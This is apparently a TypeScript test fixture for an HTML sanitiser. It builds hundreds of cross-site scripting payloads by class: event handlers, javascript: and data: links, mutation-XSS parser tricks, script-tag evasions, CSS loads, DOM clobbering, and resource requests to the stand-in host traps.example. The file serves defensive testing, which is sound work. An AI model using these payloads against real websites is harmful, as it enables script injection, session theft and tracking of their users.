/** Payloads for a sanitiser, by class: each is a piece of HTML that runs, loads or escapes where it is let through. */
import {type HostilePage, storyPage, trap} from './page';

type Payloads = (origin: string) => readonly string[];

const events = [
	'onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onmouseenter', 'onpointerover', 'onwheel', 'onscroll', 'onscrollend', 'onanimationend', 'onanimationstart',
	'ontransitionrun', 'onbegin', 'onend', 'onrepeat', 'ontoggle', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'oncopy', 'onpaste', 'onresize', 'onsecuritypolicyviolation', 'onslotchange',
];
const elements = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'object data=x', 'marquee', 'style', 'link rel=stylesheet href=x', 'a href=#', 'p tabindex=0', 'math', 'button', 'select autofocus', 'textarea autofocus', 'table', 'form', 'embed src=x', 'isindex', 'keygen autofocus', 'x-y', 'frameset'];

const schemes = [
	'javascript:', 'JAVASCRIPT:', 'jAvAsCrIpT:', '&#x6A;avascript:', '&#0000106avascript:', 'java&Tab;script:', 'java&NewLine;script:', '&#1;javascript:', '&nbsp;javascript:', 'javascript&colon;', 'javascript:/*http://*/', 'javascript://%0a',
	'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:application/xml,', 'data:,', 'vbscript:', 'livescript:', 'mocha:', 'jar:javascript:', 'x-javascript:', 'about:', 'blob:', 'filesystem:',
];

const classes: Readonly<Record<string, Payloads>> = {
	'events': () => events.map((event, index) => `<${elements[index % elements.length]} ${event}="${trap}">`),
	'events-in-odd-syntax': () => [
		`<img/src/onerror=${trap}>`, `<img src=x onerror\n=\n"${trap}">`, `<svg/onload=${trap}>`, `<svg\u000Conload=${trap}>`, `<img src=x oNeRrOr=${trap}>`, `<img """><img src=x onerror=${trap}>">`, `<img src="x"onerror="${trap}">`,
		`<img src=x onerror=&#100;ocument.title>`, `<a href="x" onclick\u0000="${trap}">x</a>`, `<p/onclick="${trap}"/id=x>x</p>`, `<body onload=${trap}>`, `<html onclick="${trap}">`, `<IMG SRC=x ONERROR="${trap}" ALT='>'>`, `<img src=x onerror="${trap}"//`, `<<img src=x onerror=${trap}>`,
		`<img src='x' onerror='${trap.replaceAll('\'', '"')}'>`, `<img src=x:hostileRan=1 onerror=eval(src)>`, `<svg><animate onbegin=${trap} attributeName=x dur=1s>`, `<input onfocus=${trap} autofocus>`, `<video><source onerror="${trap}"></video>`,
	],
	'links': () => schemes.map(scheme => `<a href="${scheme}${trap}">the list of boats</a>`),
	'addresses-elsewhere': () => schemes.slice(0, 15).flatMap((scheme, index) => [
		`<area href="${scheme}${trap}">`, `<form action="${scheme}${trap}"><button>x</button></form>`, `<iframe src="${scheme}${trap}"></iframe>`, `<object data="${scheme}${trap}"></object>`, `<embed src="${scheme}${trap}">`, `<button formaction="${scheme}${trap}">x</button>`,
		`<svg><a xlink:href="${scheme}${trap}"><text>x</text></a></svg>`, `<math href="${scheme}${trap}">x</math>`, `<base href="${scheme}${trap}">`, `<blockquote cite="${scheme}${trap}">x</blockquote>`, `<img src="${scheme}${trap}">`, `<video poster="${scheme}${trap}"></video>`, `<body background="${scheme}${trap}">`, `<link href="${scheme}${trap}" rel=import>`, `<img srcset="${scheme}${trap} 2x">`,
	].slice(index, index + 2)),
	'parsers-that-disagree': () => [
		`<math><mtext><table><mglyph><style><math><img src onerror=${trap}></style></mglyph></table></mtext></math>`, `<svg></p><style><a id="</style><img src=1 onerror=${trap}>">`, `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${trap}>"></style></h1>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${trap}>`, `<noscript><p title="</noscript><img src=x onerror=${trap}>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${trap}>">`, `<svg><title><style><img src=x onerror=${trap}></style></title></svg>`,
		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=${trap}></style></annotation-xml></math>`, `<svg><desc><noembed><img title="</noembed><img src onerror=${trap}>"></noembed></desc></svg>`, `<table><math><select><mi><select><img src=x onerror=${trap}></select></mi></select></math></table>`,
		`<svg><foreignObject><math><mi><table><tr><td><svg><style><img src=x onerror=${trap}></style>`, `<textarea><img title="</textarea><img src=x onerror=${trap}>"></textarea>`, `<title><a title="</title><img src=x onerror=${trap}>"></title>`, `<xmp><a title="</xmp><img src=x onerror=${trap}>"></xmp>`, `<iframe><a title="</iframe><img src=x onerror=${trap}>"></iframe>`,
		`<noframes><a title="</noframes><img src=x onerror=${trap}>"></noframes>`, `<plaintext-x><!--<img title="--><img src=x onerror=${trap}>">`, `<svg><![CDATA[><img src=x onerror=${trap}>]]></svg>`, `<math><!--<p title="--><img src=x onerror=${trap}>">`, `<p><svg><style><p><img src=x onerror=${trap}></p></style></svg></p>`,
		`<a><a><b><a><b><a><svg><style></a><img src=x onerror=${trap}>`, `<table><td><form><table><caption><img src=x onerror=${trap}>`, `<dl><dt><svg><dd><style><img src=x onerror=${trap}></style>`, `<h1><p><h2><svg><desc><h3><style><img src=x onerror=${trap}>`, `<ruby><rt><math><mtext><rp><style><img src=x onerror=${trap}>`,
	],
	'scripts': origin => [
		'<script>hostileRan = true</script>', '<SCRIPT>hostileRan = true</SCRIPT>', `<script src="${origin}trap.js"></script>`, '<script type=module>globalThis.hostileRan = true</script>', '<svg><script>hostileRan = true</script></svg>', '<svg><script href="data:,hostileRan=true"/></svg>', '<math><script>hostileRan = true</script></math>',
		'<scr<script>ipt>hostileRan = true</scr</script>ipt>', '<script\u0000>hostileRan = true</script>', '<script/x>hostileRan = true</script>', '<script\n>hostileRan = true</script\n>', '<script>/*<!--*/hostileRan = true//--></script>', '<template><script>hostileRan = true</script></template>', '<object><script>hostileRan = true</script></object>', '<iframe srcdoc="&lt;script&gt;parent.hostileRan = true&lt;/script&gt;"></iframe>',
		`<link rel=modulepreload href="${origin}trap.js">`, `<script type=importmap>{"imports":{"x":"${origin}trap.js"}}</script>`, '<script async defer nomodule crossorigin>hostileRan = true</script>', '<noscript><script>hostileRan = true</script></noscript>', '<svg><set attributeName=href to=javascript:alert(1)></svg>',
	],
	'styles': origin => [
		`<p style="background:url(${origin}trap.png)">x</p>`, `<p style="list-style:url('${origin}trap.png')">x</p>`, `<style>p{background:url(${origin}trap.png)}</style>`, `<style>@import url(${origin}trap.css);</style>`, `<link rel=stylesheet href="${origin}trap.css">`, `<p style="width:expression(alert(1))">x</p>`, '<p style="-moz-binding:url(x)">x</p>',
		'<p style="position:fixed;inset:0">x</p>', '<style>body{display:none}</style>', '<style>@font-face{font-family:x;src:url(x)}</style>', '<p style="content:attr(x)" class="reader">x</p>', '<style>*{animation:x 1s}</style>', `<p style="--x:url(${origin}trap.png);cursor:var(--x),auto">x</p>`, `<svg><style>@import '${origin}trap.css'</style></svg>`, `<p style="background:image-set('${origin}trap.png' 1x)">x</p>`, `<p style="mask:url(${origin}trap.svg#m)">x</p>`, `<table background="${origin}trap.png"><td background="${origin}trap.png">x</table>`,
	],
	'names-that-clobber': () => ['body', 'head', 'documentElement', 'createElement', 'querySelector', 'cookie', 'forms', 'defaultView', 'location', 'attributes', 'parentNode', 'children', 'nodeType', 'firstChild', 'toString', '__proto__', 'constructor', 'chrome', 'browser', 'broadsheetPage'].map((name, index) => index % 2 === 0 ? `<img name="${name}" id="${name}">` : `<form name="${name}"><input name="${name}" id="${name}"></form><a id="${name}" href="javascript:${trap}">x</a>`),
	'requests': origin => [
		`<img src="${origin}trap.png" width=1 height=1>`, `<img srcset="${origin}trap.png 2x" width=1>`, `<picture><source srcset="${origin}trap.png"></picture>`, `<video src="${origin}trap.mp4"></video>`, `<video poster="${origin}trap.png"></video>`, `<audio src="${origin}trap.mp3" autoplay></audio>`, `<track src="${origin}trap.vtt">`, `<embed src="${origin}trap.svg">`, `<object data="${origin}trap.svg"></object>`, `<iframe src="${origin}frame"></iframe>`,
		`<frame src="${origin}frame">`, `<input type=image src="${origin}trap.png">`, `<link rel=preload as=image href="${origin}trap.png">`, `<link rel=dns-prefetch href="${origin}">`, `<link rel=icon href="${origin}trap.png">`, `<svg><image href="${origin}trap.png"/></svg>`, `<svg><use href="${origin}trap.svg#x"/></svg>`, `<a ping="${origin}trap" href="${origin}x">x</a>`, `<meta http-equiv=refresh content="9;url=${origin}trap">`, `<body background="${origin}trap.png">`,
	],
};

/** All payloads of all classes. */
export const payloadClasses: Readonly<Record<string, readonly string[]>> = Object.fromEntries(Object.entries(classes).map(([name, make]) => [name, make('https://traps.example/')]));

/** Payloads that stand together on one page, so that one that swallows the rest of its page hides few others. */
const together = 5;

const sentence = 'The book of the harbour says on this page who was on the boat that day, and who was not.';

export const payloads: readonly HostilePage[] = Object.entries(classes).flatMap(([name, make]) => {
	const count = Math.ceil(make('').length / together);
	return Array.from({length: count}, (_, index): HostilePage => ({
		name: `${name}-${index + 1}`,
		make: origin => storyPage({amid: make(origin).slice(index * together, (index + 1) * together).map(payload => `<div><p>${sentence} ${payload}</p></div>`).join('\n')}),
	}));
});
